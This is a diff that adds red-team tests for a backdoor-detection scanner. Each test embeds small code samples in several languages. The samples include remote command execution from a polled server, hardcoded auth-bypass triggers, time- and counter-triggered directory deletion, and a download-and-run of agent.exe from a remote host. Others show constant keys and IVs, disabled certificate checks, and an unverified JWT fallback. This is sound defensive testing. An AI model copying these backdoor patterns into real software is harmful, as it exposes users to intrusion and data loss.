@@ -481,3 +481,230 @@ test('certificate checks switched off by an unrelated environment value are foun
   assert.deepEqual(rules('c.go', goOptIn), []);
   assert.ok(rules('a.js', node).includes('backdoor.verify-by-value:2'), rules('a.js', node).join());
 });
+
+// Red-team round (test/fixtures/redteam-backdoors, scripts/redteam-backdoors.ts): each mechanism found
+// missing there is tested here in another language than the case that showed it, with its near miss.
+
+test('a command sent back by a polled server runs through a helper parameter (Java): remote-command', () => {
+  const text = [
+    'class Agent {',
+    '  void run(String cmd) throws Exception {',
+    '    Runtime.getRuntime().exec(new String[] {"sh", "-c", cmd});',
+    '  }',
+    '  void poll(java.net.HttpURLConnection conn) throws Exception {',
+    '    String body = new String(conn.getInputStream().readAllBytes());',
+    '    run(body.trim());',
+    '  }',
+    '}',
+    '',
+  ].join('\n');
+  assert.ok(rules('Agent.java', text).includes('backdoor.remote-command:3'), rules('Agent.java', text).join());
+});
+
+test('a server reply that only sets an interval, beside a fixed local command, is not remote control (Java)', () => {
+  const text = [
+    'class Agent {',
+    '  void poll(java.net.HttpURLConnection conn) throws Exception {',
+    '    String body = new String(conn.getInputStream().readAllBytes());',
+    '    int every = Integer.parseInt(body.trim());',
+    '    Runtime.getRuntime().exec(new String[] {"uptime"});',
+    '    Thread.sleep(every);',
+    '  }',
+    '}',
+    '',
+  ].join('\n');
+  assert.deepEqual(rules('Agent.java', text), []);
+});
+
+test('a chosen value kept in a class field read through this. still opens a decider (TypeScript)', () => {
+  const text = [
+    'export class Gate {',
+    "  private readonly hint = 'zx-91-alpha';",
+    '  authenticate(req: Request, next: () => void) {',
+    "    if (req.headers.get('x-hint') === this.hint) {",
+    '      return next();',
+    '    }',
+    '    return verifySession(req, next);',
+    '  }',
+    '}',
+    '',
+  ].join('\n');
+  assert.ok(rules('gate.ts', text).includes('backdoor.trigger-effect:4'), rules('gate.ts', text).join());
+});
+
+test('a trigger constant with a comment beside it is still a constant (JavaScript)', () => {
+  const text = [
+    "const PARTNER = 'pk_live_7Hq2x'; // the partner integration id",
+    'function authenticate(req, res, next) {',
+    "  if (req.headers['x-partner'] === PARTNER) {",
+    "    req.user = { id: 'partner', role: 'admin' };",
+    '    return next();',
+    '  }',
+    '  return deny(res);',
+    '}',
+    '',
+  ].join('\n');
+  assert.ok(rules('auth.js', text).includes('backdoor.trigger-effect:3'), rules('auth.js', text).join());
+});
+
+test('an L-suffixed epoch read by a helper that the guard calls opens a wipe (C#)', () => {
+  const text = [
+    'class Store {',
+    '  const long Cutoff = 1811808000L;',
+    '  static bool Legacy()',
+    '  {',
+    '    return DateTimeOffset.UtcNow.ToUnixTimeSeconds() > Cutoff;',
+    '  }',
+    '  void Tick(string root)',
+    '  {',
+    '    if (Legacy())',
+    '    {',
+    '      Directory.Delete(root, true);',
+    '    }',
+    '  }',
+    '}',
+    '',
+  ].join('\n');
+  assert.ok(rules('Store.cs', text).includes('backdoor.trigger-effect:9'), rules('Store.cs', text).join());
+  // (the same helper guarding a warning is not a finding)
+  const warn = text.replace('Directory.Delete(root, true);', 'Console.Error.WriteLine("please upgrade");');
+  assert.deepEqual(rules('Store.cs', warn), []);
+});
+
+test('the count an atomic increment returns, kept in a one-letter local, is a counter threshold (Java)', () => {
+  const text = [
+    'class Jobs {',
+    '  static final java.util.concurrent.atomic.AtomicLong RUNS = new java.util.concurrent.atomic.AtomicLong();',
+    '  void tick(java.nio.file.Path dir) throws Exception {',
+    '    long n = RUNS.incrementAndGet();',
+    '    if (n > 50000) {',
+    '      java.nio.file.Files.delete(dir);',
+    '    }',
+    '  }',
+    '}',
+    '',
+  ].join('\n');
+  assert.ok(rules('Jobs.java', text).includes('backdoor.trigger-effect:5'), rules('Jobs.java', text).join());
+  const logs = text.replace('java.nio.file.Files.delete(dir);', 'System.out.println("milestone " + n);');
+  assert.deepEqual(rules('Jobs.java', logs), []);
+});
+
+test('a time-seeded generator that makes reset tokens is predictable in a file that names no cipher (Python)', () => {
+  const text = [
+    'import random, time',
+    'def new_reset_token():',
+    '    rng = random.Random(time.time_ns())',
+    '    return "".join(rng.choice("abcdef0123456789") for _ in range(32))',
+    '',
+  ].join('\n');
+  assert.ok(rules('tokens.py', text).includes('backdoor.predictable-rng:3'), rules('tokens.py', text).join());
+  // (a seeded generator for a shuffle, in a file that makes no secret, is not a finding)
+  assert.deepEqual(
+    rules('shuffle.py', 'import random, time\nrng = random.Random(time.time_ns())\nrng.shuffle(items)\n'),
+    [],
+  );
+});
+
+test('a cipher keyed with a literal is a constant key; the key from the environment is not (Python)', () => {
+  const bad =
+    'from Crypto.Cipher import AES\nKEY = b"0123456789abcdef"\ndef seal(d):\n    return AES.new(KEY, AES.MODE_GCM).encrypt(d)\n';
+  assert.ok(rules('seal.py', bad).includes('backdoor.constant-key:2'), rules('seal.py', bad).join());
+  const good = bad.replace('KEY = b"0123456789abcdef"', 'KEY = os.environ["SEAL_KEY"].encode()');
+  assert.deepEqual(rules('seal.py', good), []);
+});
+
+test('an IV made as zeros and filled at random after is not constant; left as zeros it is (Java)', () => {
+  const filled = [
+    'class C {',
+    '  byte[] seal(javax.crypto.Cipher c, java.security.Key k, byte[] p) throws Exception {',
+    '    byte[] iv = new byte[12];',
+    '    new java.security.SecureRandom().nextBytes(iv);',
+    '    c.init(1, k, new javax.crypto.spec.GCMParameterSpec(128, iv));',
+    '    return c.doFinal(p);',
+    '  }',
+    '}',
+    '',
+  ].join('\n');
+  assert.deepEqual(rules('C.java', filled), []);
+  const zeros = filled.replace('    new java.security.SecureRandom().nextBytes(iv);\n', '');
+  assert.ok(rules('C.java', zeros).includes('backdoor.constant-iv:3'), rules('C.java', zeros).join());
+});
+
+test('a certificate check switched off in a branch on an unrelated environment value (Ruby): verify-by-value', () => {
+  const text = [
+    'def client(uri)',
+    '  http = Net::HTTP.new(uri.host, uri.port)',
+    '  http.use_ssl = true',
+    '  if ENV["EDGE_REGION"]',
+    '    http.verify_mode = OpenSSL::SSL::VERIFY_NONE',
+    '  end',
+    '  http',
+    'end',
+    '',
+  ].join('\n');
+  assert.ok(rules('client.rb', text).includes('backdoor.verify-by-value:5'), rules('client.rb', text).join());
+  // (an opt-in whose name says what it switches is configuration)
+  assert.deepEqual(rules('client.rb', text.replace('EDGE_REGION', 'INSECURE_SKIP_TLS_VERIFY')), []);
+});
+
+test('a peer-certificate callback that logs and answers nil accepts everything (Go): callback-says-yes', () => {
+  const text = [
+    'package tlsx',
+    'func acceptAll(raw [][]byte, chains [][]*x509.Certificate) error {',
+    '\tlog.Printf("peer presented %d certs", len(raw))',
+    '\treturn nil',
+    '}',
+    'func Config() *tls.Config {',
+    '\treturn &tls.Config{',
+    '\t\tVerifyPeerCertificate: acceptAll,',
+    '\t}',
+    '}',
+    '',
+  ].join('\n');
+  assert.ok(rules('tlsx.go', text).includes('backdoor.callback-says-yes:8'), rules('tlsx.go', text).join());
+  const pinned = text.replace('\treturn nil\n', '\tif len(raw) == 0 {\n\t\treturn errNoCert\n\t}\n\treturn nil\n');
+  assert.deepEqual(rules('tlsx.go', pinned), []);
+});
+
+test('a failed JWT verification answered with the unverified claims (Ruby): unverified-fallback', () => {
+  const text = [
+    'def claims(token)',
+    '  JWT.decode(token, KEY, true, algorithm: "HS256").first',
+    'rescue JWT::VerificationError',
+    '  JWT.decode(token, nil, false).first',
+    'end',
+    '',
+  ].join('\n');
+  assert.ok(rules('auth.rb', text).includes('backdoor.unverified-fallback:4'), rules('auth.rb', text).join());
+  assert.deepEqual(rules('auth.rb', text.replace('  JWT.decode(token, nil, false).first', '  nil')), []);
+});
+
+test('one environment variable read with a default and logged is not the whole environment; dict(os.environ) is', () => {
+  const one =
+    'import logging, os\nlog = logging.getLogger()\nregion = os.environ.get("AWS_REGION", "eu-west-1")\nlog.info("region %s", region)\n';
+  assert.deepEqual(rules('boot.py', one), []);
+  const whole = one.replace('log.info("region %s", region)', 'log.info("env %s", dict(os.environ))');
+  assert.ok(rules('boot.py', whole).includes('backdoor.secret-to-log:4'), rules('boot.py', whole).join());
+});
+
+test('a helper written from a download through a parameter and then started is download-exec (C#); unpacking it is not', () => {
+  const text = [
+    'class Setup {',
+    '  static void Fetch(string url, string target)',
+    '  {',
+    '    using var c = new System.Net.WebClient();',
+    '    c.DownloadFile(url, target);',
+    '  }',
+    '  static void Install(string dir)',
+    '  {',
+    '    var tool = System.IO.Path.Combine(dir, "agent.exe");',
+    '    Fetch("https://cdn.example-tools.top/a", tool);',
+    '    System.Diagnostics.Process.Start(tool);',
+    '  }',
+    '}',
+    '',
+  ].join('\n');
+  assert.ok(rules('Setup.cs', text).includes('backdoor.download-exec:11'), rules('Setup.cs', text).join());
+  const unpack = text.replace('Process.Start(tool);', 'Process.Start("tar", "xzf " + tool);');
+  assert.deepEqual(rules('Setup.cs', unpack), []);
+});
